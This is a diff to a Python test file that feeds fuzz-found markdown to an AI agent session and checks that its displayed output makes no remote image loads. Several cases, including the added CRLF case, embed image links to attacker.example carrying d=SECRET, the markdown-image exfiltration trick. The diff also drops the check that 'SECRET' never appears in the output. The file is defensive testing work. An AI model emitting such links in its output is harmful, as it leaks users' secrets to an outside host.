@@ -62,6 +62,10 @@ FOUND = {
     # rest must end it, or the opening, the placeholder and the link's `](…)` make an image
     "an image over two lines of code in a link": (
         "> a\n- \n  ```x\n[![a\nb](https://attacker.example/n?d=SECRET)](https://link.example)\n"),
+    # an image not ended on its line of code is replaced as it stands (its address might end
+    # where the guard does not look for it: after a CR, here), not only once it ends
+    "an image ended on the next line after CRLF": (
+        "```\r\ncode\r\n```\r\n![a](https://attacker.example/c?d=SECRET\r\n)\r\n"),
     # an image not ended in code is none: the tag inside it is one
     "a tag in an unended image in code": (
         "> a\n- \n  ```x\n![r](https://attacker.example/i\n[ <img\n"
@@ -79,4 +83,4 @@ async def test_what_the_fuzz_found_is_not_sent(tmp_path: Path, name: str) -> Non
             session = (await conn.new_session(cwd=str(tmp_path), mcp_servers=[])).session_id
             await conn.prompt(session_id=session, prompt=[text_block("show it")])
     shown = text_of(client)
-    assert remote_loads(shown) == [] and "SECRET" not in shown
+    assert remote_loads(shown) == []
